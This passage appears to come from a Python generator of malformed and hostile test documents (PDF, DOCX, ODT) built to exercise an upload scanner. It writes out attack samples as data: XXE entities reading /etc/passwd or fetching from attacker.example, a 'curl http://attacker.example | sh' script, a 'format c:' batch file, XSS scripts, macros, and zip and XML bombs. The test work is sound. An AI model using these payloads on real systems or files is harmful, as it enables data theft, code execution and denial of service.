        b"startxref\n", b"startxref\n%d" % rng.randrange(1, 9), 1
    ), f"/Size {huge} and a startxref past the end"


@family("pdf-polyglot", "pdf", "html", "unreadable")
def _pdf_polyglot(rng, i):
    data = sound_pdf(rng)
    variant = i % 6
    if variant == 0:
        page = b"<html><body><script>alert(document.cookie)</script></body></html>"
        return data.replace(b"%\xe2\xe3\xcf\xd3\n", b"%" + page + b"\n", 1), "HTML in a comment"
    if variant == 1:
        marker = rng.choice((b"<SCRIPT>", b"<IfRaMe src=x>", b"<!DOCTYPE HTML>"))
        objects = pdf_objects(rng)
        objects.append(_stream(marker + b"alert(1)", flate=False))
        return pdf_bytes(objects), "HTML in a stream"
    if variant == 2:
        return data + b"<html><script>fetch('/admin/')</script>", "HTML after the end"
    if variant == 3:
        payload = _zip(docx_entries(rng))
        return data + payload, "a Word document appended"
    if variant == 4:
        filler = rng.randbytes(rng.randrange(64 * 1024 - 40, 64 * 1024 - 2))
        filler = filler.replace(b"<", b"(")
        objects = pdf_objects(rng)
        objects.append(_stream(filler + b"<body onload=alert(1)>", flate=False))
        return pdf_bytes(objects), "HTML across the scanner's 64 KB boundary"
    program = b"MZ\x90\x00" + rng.randbytes(200).replace(b"<", b"(")
    return data + program, "a program appended"


# DOCX ----------------------------------------------------------------------------------------


@family("docx-truncated", "docx", "unreadable")
def _docx_truncated(rng, i):
    data = _zip(docx_entries(rng, paragraphs=1 + i % 5))
    cut = rng.randrange(4, len(data) - 1)
    return data[:cut], f"cut at {cut} of {len(data)} bytes"


def _lying_directory(rng: random.Random, entries: list[Entry], variant: int) -> tuple[bytes, str]:
    package = Zip(entries)
    index = rng.randrange(len(package.records))
    record = package.records[index]["central"]
    name = record["name"].decode()
    if variant == 0:
        record["offset"] += rng.choice((1, 3, 30, -1 if record["offset"] else 7))
        what = f"{name}: wrong offset"
    elif variant == 1:
        record["compressed"] += rng.choice((-3, -1, 1, 9))
        what = f"{name}: wrong compressed size"
    elif variant == 2:
        record["size"] += rng.choice((-5, -1, 1, 1000))
        what = f"{name}: wrong size"
    elif variant == 3:
        record["crc"] ^= rng.randrange(1, 2**32)
        what = f"{name}: wrong checksum"
    elif variant == 4:
        record["name"] = record["name"][:-1] + b"X"
        what = f"{name}: another name than its local header"
    elif variant == 5:
        record["method"] = 0 if record["method"] == 8 else 8
        what = f"{name}: another method than its local header"
    elif variant == 6:
        package.eocd["entries"] = package.eocd["disk_entries"] = len(package.records) + 2
        what = "the end record counts more entries"
    elif variant == 7:
        package.eocd["cd_offset"] = rng.randrange(0, 200)
        what = "the end record points at the wrong directory"
    elif variant == 8:
        package.eocd["disk"] = package.eocd["cd_disk"] = 1
        what = "a package split over disks"
    elif variant == 9:  # the same part twice
        package.records.append(dict(package.records[index]))
        what = f"{name} twice"
    elif variant == 10:  # two directory entries for one local part (overlap)
        copy = dict(record)
        copy["name"] = b"word/media/image1.png"
        package.records.append({"local": b"", "central": copy, "raw": b""})
        what = "two names for the same data"
    else:
        package.between = rng.randbytes(rng.randrange(1, 400)).replace(b"<", b"(")
        what = "unaccounted bytes before the directory"
    return package.build(), what


@family("docx-central-directory", "docx", "unreadable")
def _docx_central_directory(rng, i):
    return _lying_directory(rng, docx_entries(rng), i % 12)


@family("docx-local-data", "docx", "unreadable")
def _docx_local_data(rng, i):
    entries = docx_entries(rng)
    target = rng.choice(("word/document.xml", "[Content_Types].xml", "_rels/.rels"))
    data = next(e.data for e in entries if e.name == target)
    raw = _deflate(data)
    variant = i % 7
    if variant == 0:
        entry, what = Entry(target, data, raw=_flip(rng, raw, 1, len(raw) - 1)), "damaged deflate"
    elif variant == 1:
        entry, what = Entry(target, data, raw=raw + rng.randbytes(9)), "deflate with a tail"
    elif variant == 2:
        entry = Entry(target, data, local={"crc": rng.randrange(2**32)})
        what = "local header with another checksum"
    elif variant == 3:
        entry = Entry(target, data, local={"size": len(data) + 3})
        what = "local header with another size"
    elif variant == 4:
        entry = Entry(target, data, method=rng.choice((12, 14, 93, 99)), raw=raw)
        what = "an unsupported compression method"
    elif variant == 5:  # a data descriptor that disagrees
        descriptor = struct.pack("<4sIII", b"PK\x07\x08", 0, len(raw), len(data) + 1)
        entry = Entry(target, data, flags=0x08, descriptor=descriptor)
        entry.local.update({"crc": 0, "compressed": 0, "size": 0})
        what = "a data descriptor that disagrees"
    else:
        entry = Entry(target, data, method=0, raw=raw, size=len(data))
        what = "stored, but the bytes are deflated"
    return _zip([entry if e.name == target else e for e in entries]), f"{target}: {what}"


@family("docx-zip-bomb", "docx", "zip_bomb", "unreadable")
def _docx_zip_bomb(rng, i):
    entries = docx_entries(rng)
    variant = i % 6
    if variant == 0:  # one part, honest about its size, various ratios
        megabytes = (2, 8, 32, 64, 200, 512)[i // 6 % 6]
        entries.append(_bomb_entry("word/media/image1.png", megabytes))
        what = f"a part of {megabytes} MB in {len(_zero_bomb(megabytes))} bytes"
    elif variant == 1:  # the document part itself
        megabytes = (3, 16, 100)[i // 6 % 3]
        entries = [e for e in entries if e.name != "word/document.xml"]
        entries.append(_bomb_entry("word/document.xml", megabytes))
        what = f"document.xml of {megabytes} MB"
    elif variant == 2:  # many parts under 1 MB each, far over the total
        count = rng.choice((400, 700))
        raw, crc = _deflate(b"\0" * 900_000, 9), zlib.crc32(b"\0" * 900_000)
        entries += [
            Entry(f"word/media/p{n}.bin", raw=raw, size=900_000, crc=crc) for n in range(count)
        ]
        what = f"{count} parts of 900 KB"
    elif variant == 3:  # more parts than a document has
        count = rng.choice((5001, 6000, 9000))
        entries += [Entry(f"customXml/i{n}.bin", b"x") for n in range(count)]
        what = f"{count} parts"
    elif variant == 4:  # declared tiny, inflates to megabytes
        megabytes = rng.choice((4, 16, 64))
        entries.append(_bomb_entry("word/media/image2.png", megabytes, honest=False))
        what = f"declared 1000 bytes, inflates to {megabytes} MB"
    else:  # a size no document has (Zip64)
        huge = rng.choice((2**32, 2**40, 2**62))
        entries.append(Entry("word/media/image3.png", raw=_zero_bomb(1), size=huge, crc=0))
        what = f"declares {huge} bytes"
    return _zip(entries), what


@family("docx-missing-parts", "docx", "unreadable", "wrong_type")
def _docx_missing_parts(rng, i):
    entries = docx_entries(rng)
    variant = i % 8
    if variant == 0:
        return _zip(_without(entries, "[Content_Types].xml")), "no [Content_Types].xml"
    if variant == 1:
        return _zip(_without(entries, "word/document.xml")), "no main document"
    if variant == 2:
        return _zip(_without(entries, "_rels/.rels")), "no package relationships"
    if variant == 3:
        data = _xml(f'<w:document xmlns:w="{W_NS}"><w:p/></w:document>')
        return _zip(_replace(entries, "word/document.xml", data)), "a document without body"
    if variant == 4:
        data = _xml(rng.choice(("<html><p>x</p></html>", "<w:body/>", "<document/>")))
        return _zip(_replace(entries, "word/document.xml", data)), "another root element"
    if variant == 5:
        return _zip(_replace(entries, "word/document.xml", b"")), "an empty main document"
    if variant == 6:
        rels = _xml(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{OFFICE_DOCUMENT_REL}" '
            'Target="word/other.xml"/></Relationships>'
        )
        return _zip(_replace(entries, "_rels/.rels", rels)), "relationships lead elsewhere"
    types = _xml(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    return _zip(_replace(entries, "[Content_Types].xml", types)), "no main content type"


def _bad_xml(rng: random.Random, variant: int) -> tuple[bytes, str]:
    good = f'<w:document xmlns:w="{W_NS}"><w:body><w:p/></w:body></w:document>'
    options = [
        (_xml(good[: rng.randrange(10, len(good) - 2)]), "cut short"),
        (_xml(good.replace("</w:body>", "</w:bdy>")), "mismatched tags"),
        (_xml(good.replace("<w:p/>", "<w:p>\0</w:p>")), "a NUL character"),
        (b'<?xml version="1.0" encoding="UTF-8"?>' + b"\xff\xfe\xc3(" + good.encode(), "bad UTF-8"),
        (_xml(good.replace("<w:p/>", "<w:p>&nbsp;</w:p>")), "an undefined entity"),
        (_xml(good + good), "two root elements"),
        (_xml(good.replace("<w:p/>", '<w:p w:a="1" w:a="2"/>')), "a repeated attribute"),
        (rng.randbytes(200), "random bytes"),
    ]
    return options[variant % len(options)]


@family("docx-bad-xml", "docx", "unreadable")
def _docx_bad_xml(rng, i):
    entries = docx_entries(rng)
    part = ("word/document.xml", "[Content_Types].xml", "_rels/.rels", "docProps/app.xml")[i % 4]
    data, what = _bad_xml(rng, i // 4)
    return _zip(_replace(entries, part, data)), f"{part}: {what}"


def _laughs(rng: random.Random, root: str, variant: int) -> tuple[bytes, str]:
    levels = rng.randint(5, 10)
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)
    )
    kind = variant % 6
    if kind == 0:
        body = f"<!DOCTYPE d [{entities}]>{root.replace('BODY', f'&lol{levels - 1};')}"
        return _xml(body), f"billion laughs, {levels} levels"
    if kind == 1:
        body = f"<!DOCTYPE d [{entities}]>{root.replace('BODY', f'&lol{levels - 1};')}"
        data = ('<?xml version="1.0" encoding="UTF-16"?>\n' + body).encode("utf-16")
        return data, f"billion laughs in UTF-16, {levels} levels"
    if kind == 2:
        body = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + root.replace(
            "BODY", "&x;"
        )
        return _xml(body), "an external entity (file)"
    if kind == 3:
        body = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>' + root
        return _xml(body.replace("BODY", "x")), "an external parameter entity"
    if kind == 4:
        big = "A" * rng.choice((10_000, 50_000))
        body = f'<!DOCTYPE d [<!ENTITY a "{big}">]>' + root.replace("BODY", "&a;" * 2000)
        return _xml(body), "quadratic blowup"
    body = '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd">' + root.replace("BODY", "x")
    return _xml(body), "an external DTD"


@family("docx-xml-bomb", "docx", "unreadable")
def _docx_xml_bomb(rng, i):
    entries = docx_entries(rng)
    parts = {
        "word/document.xml": f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>BODY'
        "</w:t></w:r></w:p></w:body></w:document>",
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/word/document.xml" ContentType="{WORD_MAIN}"/>'
        '<Default Extension="x" ContentType="BODY"/></Types>',
        "docProps/app.xml": '<Properties xmlns="http://schemas.openxmlformats.org/'
        'officeDocument/2006/extended-properties"><Company>BODY</Company></Properties>',
    }
    part = list(parts)[i % 3 if i % 2 == 0 else 0]
    data, what = _laughs(rng, parts[part], i // 2)
    return _zip(_replace(entries, part, data)), f"{part}: {what}"


def _deep_xml(rng: random.Random, prefix: str, suffix: str, tag: str) -> tuple[bytes, str]:
    depth = rng.choice((300, 2000, 20_000, 200_000))
    return _xml(prefix + f"<{tag}>" * depth + f"</{tag}>" * depth + suffix), f"{depth} deep"


@family("docx-deep-nesting", "docx", "unreadable", "too_complex", "zip_bomb")
def _docx_deep_nesting(rng, i):
    entries = docx_entries(rng)
    tag = rng.choice(("w:p", "w:r", "w:tbl", "w:sdt"))
    data, what = _deep_xml(
        rng, f'<w:document xmlns:w="{W_NS}"><w:body>', "</w:body></w:document>", tag
    )
    return _zip(_replace(entries, "word/document.xml", data)), f"<{tag}> {what}"


@family("docx-content-types", "docx", "wrong_type", "macro", "unreadable")
def _docx_content_types(rng, i):
    entries = docx_entries(rng)
    others = (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        "text/html",
        "",
    )
    variant = i % 9
    if variant < len(others):
        main = others[variant]
        types = entries[0].data.replace(WORD_MAIN.encode(), main.encode())
        return _zip(_replace(entries, "[Content_Types].xml", types)), f"main part is {main!r}"
    if variant == 7:  # a VBA project hidden in a plain-looking package
        entries.append(Entry("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + rng.randbytes(300)))
        return _zip(entries), "a VBA project"
    types = entries[0].data.replace(
        b"</Types>",
        b'<Override PartName="/word/document2.xml" ContentType="%s"/></Types>' % WORD_MAIN.encode(),
    )
    entries = _replace(entries, "[Content_Types].xml", types)
    entries.append(Entry("word/document2.xml", entries[2].data))
    return _zip(entries), "two main documents"


@family("docx-encrypted", "docx", "encrypted_package", "old_or_encrypted_office", "unreadable")
def _docx_encrypted(rng, i):
    if i % 3 == 0:  # how Word saves a password-protected document: an OLE container
        body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
        body += rng.randbytes(rng.choice((512, 4096, 20_000)))
        return body, "an OLE container (EncryptedPackage)"
    entries = docx_entries(rng)
    index = rng.randrange(len(entries))
    entries[index] = Entry(
        entries[index].name, raw=rng.randbytes(len(entries[index].data) + 12), flags=0x01
    )
    if i % 3 == 2:
        entries[index].method = 99  # WinZip AES
    return _zip(entries), f"{entries[index].name} encrypted (zip encryption)"


# ODT -------------------------------------------------------------------------------------------


@family("odt-truncated", "odt", "unreadable")
def _odt_truncated(rng, i):
    data = _zip(odt_entries(rng))
    cut = rng.randrange(4, len(data) - 1)
    return data[:cut], f"cut at {cut} of {len(data)} bytes"


@family("odt-mimetype", "odt", "wrong_type", "unreadable")
def _odt_mimetype(rng, i):
    variant = i % 10
    others = (
        "application/vnd.oasis.opendocument.spreadsheet",
        "application/vnd.oasis.opendocument.presentation",
        "application/vnd.oasis.opendocument.text-template",
        "application/epub+zip",
    )
    if variant < 4:
        return _zip(odt_entries(rng, mimetype=others[variant])), f"mimetype {others[variant]}"
    entries = odt_entries(rng)
    if variant == 4:
        value = rng.choice((b"", b"text/plain", rng.randbytes(40), b"application/pdf"))
        return _zip(_replace(entries, "mimetype", value, method=0)), f"mimetype {value[:20]!r}"
    if variant == 5:
        return _zip(_replace(entries, "mimetype", ODT.encode(), method=8)), "mimetype compressed"
    if variant == 6:
        return _zip([*entries[1:], entries[0]]), "mimetype not first"
    if variant == 7:
        manifest = entries[2].data.replace(
            b'full-path="/" manifest:media-type="%s"' % ODT.encode(),
            b'full-path="/" manifest:media-type="application/vnd.oasis.opendocument.graphics"',
        )
        return _zip(_replace(entries, "META-INF/manifest.xml", manifest)), "the manifest disagrees"
    if variant == 8:
        return _zip([entries[0], Entry("mimetype", b"text/html", method=0), *entries[1:]]), (
            "mimetype twice"
        )
    return _zip(_without(entries, "mimetype")), "no mimetype"


@family("odt-missing-parts", "odt", "unreadable", "wrong_type")
def _odt_missing_parts(rng, i):
    entries = odt_entries(rng)
    variant = i % 7
    if variant == 0:
        return _zip(_without(entries, "content.xml")), "no content.xml"
    if variant == 1:
        return _zip(_without(entries, "META-INF/manifest.xml")), "no manifest"
    if variant == 2:
        return _zip(_replace(entries, "content.xml", b"")), "an empty content.xml"
    if variant == 3:
        data = _xml(f'<office:document-styles xmlns:office="{OFFICE_NS}"/>')
        return _zip(_replace(entries, "content.xml", data)), "content.xml of styles"
    if variant == 4:
        data = _xml(
            f'<office:document-content xmlns:office="{OFFICE_NS}"><office:body>'
            "<office:spreadsheet/></office:body></office:document-content>"
        )
        return _zip(_replace(entries, "content.xml", data)), "the content of a spreadsheet"
    if variant == 5:
        manifest = entries[2].data.replace(
            b"</manifest:manifest>",
            b'<manifest:file-entry manifest:full-path="Pictures/1.png" '
            b'manifest:media-type="image/png"/></manifest:manifest>',
        )
        return _zip(_replace(entries, "META-INF/manifest.xml", manifest)), (
            "the manifest lists a missing picture"
        )
    data = _xml("<manifest/>")
    return _zip(_replace(entries, "META-INF/manifest.xml", data)), "a manifest of nothing"


@family("odt-bad-xml", "odt", "unreadable")
def _odt_bad_xml(rng, i):
    entries = odt_entries(rng)
    part = ("content.xml", "META-INF/manifest.xml")[i % 2]
    if i % 4 < 2:
        data, what = _bad_xml(rng, i // 4)
    else:
        root = (
            f'<office:document-content xmlns:office="{OFFICE_NS}" xmlns:text="{TEXT_NS}">'
            "<office:body><office:text><text:p>BODY</text:p></office:text></office:body>"
            "</office:document-content>"
            if part == "content.xml"
            else f'<manifest:manifest xmlns:manifest="{MANIFEST_NS}">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="BODY"/>'
            "</manifest:manifest>"
        )
        data, what = _laughs(rng, root, i // 4)
    return _zip(_replace(entries, part, data)), f"{part}: {what}"


@family("odt-deep-nesting", "odt", "unreadable", "too_complex", "zip_bomb")
def _odt_deep_nesting(rng, i):
    entries = odt_entries(rng)
    tag = rng.choice(("text:span", "text:section", "text:list", "text:p"))
    data, what = _deep_xml(
        rng,
        f'<office:document-content xmlns:office="{OFFICE_NS}" xmlns:text="{TEXT_NS}">'
        "<office:body><office:text>",
        "</office:text></office:body></office:document-content>",
        tag,
    )
    return _zip(_replace(entries, "content.xml", data)), f"<{tag}> {what}"


@family("odt-zip", "odt", "unreadable", "zip_bomb")
def _odt_zip(rng, i):
    if i % 2:
        return _lying_directory(rng, odt_entries(rng), i // 2 % 12)
    entries = odt_entries(rng)
    megabytes = (4, 50, 128, 256)[i // 2 % 4]
    honest = i % 4 == 0
    entries.append(_bomb_entry("Pictures/big.png", megabytes, honest=honest))
    return _zip(entries), f"a picture of {megabytes} MB" + ("" if honest else ", declared tiny")


@family("odt-encrypted-or-macro", "odt", "encrypted_package", "macro", "unreadable")
def _odt_encrypted_or_macro(rng, i):
    entries = odt_entries(rng)
    variant = i % 5
    if variant == 0:
        manifest = entries[2].data.replace(
            b'manifest:media-type="text/xml"/>',
            b'manifest:media-type="text/xml"><manifest:encryption-data '
            b'manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
            b"</manifest:file-entry>",
        )
        entries = _replace(entries, "META-INF/manifest.xml", manifest)
        # ODF encrypts the deflated part and stores the result
        entries = _replace(entries, "content.xml", rng.randbytes(300), method=0)
        return _zip(entries), "encrypted content (manifest encryption-data)"
    if variant == 1:
        entries[1] = Entry("content.xml", raw=rng.randbytes(400), flags=0x01, size=400, crc=0)
        return _zip(entries), "content.xml encrypted (zip encryption)"
    if variant == 2:
        entries.append(Entry("Basic/Standard/Module1.xml", b"<script>Sub Main\nEnd Sub</script>"))
        return _zip(entries), "Basic macros"
    if variant == 3:
        entries.append(Entry("Scripts/python/evil.py", b"import os\nos.system('id')\n"))
        return _zip(entries), "Python scripts"
    content = entries[1].data.replace(
        b"<office:body>",
        b"<office:scripts><office:event-listeners><script:event-listener "
        b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        b'script:event-name="dom:load" script:language="ooo:script" '
        b'xlink:href="vnd.sun.star.script:Standard.Module1.Main" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"/></office:event-listeners>'
        b"</office:scripts><office:body>",
    )
    return _zip(_replace(entries, "content.xml", content)), "an event listener"


# Anything -------------------------------------------------------------------------------------


@family("random-with-magic", "*", "unreadable", "old_or_encrypted_office", "wrong_type")
def _random_with_magic(rng, i):
    magic = (b"PK\x03\x04", b"PK\x05\x06", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04\x14")
    chosen = magic[i % len(magic)]
    length = rng.choice((0, 3, 30, 300, 3000, 30_000, 300_000))
    body = rng.randbytes(length).replace(b"<", b"(")
    return chosen + body, f"{chosen!r} then {length} random bytes"


@family("executables", "*", "program", "wrong_type")
def _executables(rng, i):
    programs = (
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 50 + b"PE\0\0", "a Windows program"),
        (b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00", "a Linux program"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "a macOS program"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "a Java class"),
        (b"#!/bin/sh\ncurl http://attacker.example | sh\n", "a shell script"),
        (b"#!/usr/bin/env python3\nimport os\n", "a Python script"),
        (b"\0asm\x01\0\0\0", "WebAssembly"),
        (b"@echo off\r\nformat c: /q\r\n", "a batch file"),
    )
    head, what = programs[i % len(programs)]
    extension = ("pdf", "docx", "odt")[i % 3]
    return head + rng.randbytes(rng.choice((100, 5000))).replace(b"<", b"("), (
        f"{what} named .{extension}"
    )


@family("web-and-other-formats", "*", "wrong_type", "html", "program")
def _web_and_other_formats(rng, i):
    text = _words(rng, 10)
    formats = [
        (f"<!DOCTYPE html><html><body><p>{text}</p><script>alert(1)</script>".encode(), "HTML"),
        (f"<html><body onload=alert(1)>{text}</body></html>".encode(), "HTML without doctype"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "SVG with a script",
        ),
        (f"{{\\rtf1\\ansi {text}}}".encode(), "RTF"),
        (f'{{"statement": "{text}"}}'.encode(), "JSON"),
        (f"Statement\n\n{text}\n".encode("utf-16"), "UTF-16 text"),
        (b"\x89PNG\r\n\x1a\n" + rng.randbytes(300).replace(b"<", b"("), "a PNG image"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF" + rng.randbytes(300).replace(b"<", b"("), "a JPEG"),
        (b"GIF89a" + rng.randbytes(100).replace(b"<", b"("), "a GIF"),
        (_zip(odt_entries(rng, mimetype="application/epub+zip")), "an EPUB"),
        (
            _zip([Entry("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n")]),
            "a Java archive",
        ),
        (
            b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>x</html>",
            "an MHT web archive",
        ),
    ]
    data, what = formats[i % len(formats)]
    return data, f"{what} named .{('pdf', 'docx', 'odt')[i % 3]}"


@family("zip-polyglots", "*", "html", "unreadable", "wrong_type", "program")
def _zip_polyglots(rng, i):
    document = _zip(docx_entries(rng) if i % 2 else odt_entries(rng))
    variant = i % 7
    if variant == 0:
        return document + sound_pdf(rng), "a PDF appended"
    if variant == 1:
        return document + b"<html><script>alert(1)</script></html>", "HTML appended"
    if variant == 2:
        return b"MZ\x90\x00" + rng.randbytes(500) + document, "a program in front"
    if variant == 3:
        return sound_pdf(rng)[:-7] + document, "a PDF in front"
    if variant == 4:
        package = Zip(docx_entries(rng))
        package.eocd["comment"] = b"%PDF-1.4 " + rng.randbytes(30).replace(b"<", b"(")
        package.eocd["comment_length"] = len(package.eocd["comment"]) + 20
        return package.build(), "a comment longer than it says"
    if variant == 5:
        entries = docx_entries(rng)
        entries.append(Entry("word/media/page.html", b"<html><script>alert(1)</script>", method=0))
        package = Zip(entries)
        package.suffix = rng.randbytes(50).replace(b"<", b"(")
        return package.build(), "a stored web page and data after the end"
    return document + document, "two packages end to end"


# For the probe's own tests ---------------------------------------------------------------


def slow_pdf(references: int = 20000, padding: int = 1_000_000) -> bytes:
    """A PDF that keeps the parser busy for minutes: its page tree names thousands of
    objects that the cross-reference table does not list, and pypdf finds each one by
    searching the whole file again (they are there, after a megabyte of comments)."""
    kids = b" ".join(b"%d 0 R" % (1000 + i) for i in range(references))
    pad = (b"% " + b"x" * 70 + b"\n") * (padding // 73)
    unlisted = b"".join(
        b"%d 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n" % (1000 + i)
        for i in range(references)
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % references,
    ]
    return pdf_bytes(objects, head=pad + unlisted)


def memory_hungry_docx(seed: int, megabytes: int = 40) -> bytes:
    """A Word document with an XML part of ``megabytes`` MB that compresses only about
    forty to one (no bomb), which the check must read whole."""
    rng = random.Random(seed)  # noqa: S311 - test data
    block = b"".join(bytes([value]) * 100 for value in rng.randbytes(MB // 100))
    return _zip([*docx_entries(rng), Entry("customXml/item1.xml", block * megabytes)])


class _Unseekable(io.RawIOBase):
    """Where zipfile writes as to a pipe: it then adds a data descriptor to each part."""

    def __init__(self):
        self.buffer = bytearray()

    def writable(self):
        return True

    def write(self, data):
        self.buffer += data
        return len(data)


def _streamed_zip(entries: list[Entry]) -> bytes:
    import zipfile

    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in entries:
            method = zipfile.ZIP_STORED if entry.method == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(entry.name), entry.data, compress_type=method)
    return bytes(out.buffer)


def _zip64_zip(entries: list[Entry]) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in entries:
            with archive.open(entry.name, "w", force_zip64=True) as handle:
                handle.write(entry.data)
    return out.getvalue()


def libreoffice_like_odt(rng: random.Random) -> bytes:
    """An ODT laid out as LibreOffice saves one: settings, an empty accelerator file,
    folder entries, and a manifest that lists folders without a media type."""
    entries = odt_entries(rng)
    manifest = entries[2].data.replace(
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="Configurations2/" '
        b'manifest:media-type="application/vnd.sun.xml.ui.configuration"/>'
        b'<manifest:file-entry manifest:full-path="Configurations2/accelerator/current.xml" '
        b'manifest:media-type=""/>'
        b'<manifest:file-entry manifest:full-path="settings.xml" manifest:media-type="text/xml"/>'
        b"</manifest:manifest>",
    )
    settings = _xml(f'<office:document-settings xmlns:office="{OFFICE_NS}"/>')
    return _zip(
        [
            *entries[:2],
            Entry("Configurations2/accelerator/current.xml", b""),
            Entry("Configurations2/toolbar/", b"", method=0),
            Entry("settings.xml", settings),
            Entry("META-INF/manifest.xml", manifest),
        ]
    )


def sound_documents(seed: int) -> dict[str, bytes]:
    """Sound documents: those the mutations start from, and ones that are sound in
    ways a stricter check could wrongly refuse (how real software writes them)."""
    rng = random.Random(seed)  # noqa: S311 - test data
    duplicate_key = pdf_objects(rng)
    duplicate_key[2] = duplicate_key[2].replace(b"/Type /Page ", b"/Type /Page /Type /Page ")
    return {
        "statement.pdf": sound_pdf(rng, pages=2),
        "statement-1.5.pdf": objstm_pdf(rng),
        "statement-hybrid.pdf": objstm_pdf(rng, hybrid=True),
        "statement-crlf.pdf": pdf_bytes(pdf_objects(rng), crlf=True),
        "statement-updated.pdf": updated_pdf(rng),
        "statement-duplicate-key.pdf": pdf_bytes(duplicate_key),
        "statement.docx": _zip(docx_entries(rng)),
        "statement-streamed.docx": _streamed_zip(docx_entries(rng)),
        "statement-zip64.docx": _zip64_zip(docx_entries(rng)),
        "statement.odt": _zip(odt_entries(rng)),
        "statement-libreoffice.odt": libreoffice_like_odt(rng),
    }


def case(seed: int, family_name: str, index: int) -> Case:
    spec = FAMILIES[family_name]
    rng = random.Random(f"{seed}:{family_name}:{index}")  # noqa: S311 - test data
    data, what = spec.build(rng, index)
    extension = spec.extension if spec.extension != "*" else ("pdf", "docx", "odt")[index % 3]
    name = f"{family_name}-{index:02d}.{extension}"
    return Case(family_name, index, name, data, what, spec.codes)


def corpus(seed: int, per_family: int = PER_FAMILY) -> Iterator[Case]:
    """Every family's cases, in a stable order."""
    for family_name in FAMILIES:
        for index in range(per_family):
            yield case(seed, family_name, index)


def samples(seed: int) -> list[Case]:
    """One case of each family (its first)."""
    return [case(seed, family_name, 0) for family_name in FAMILIES]
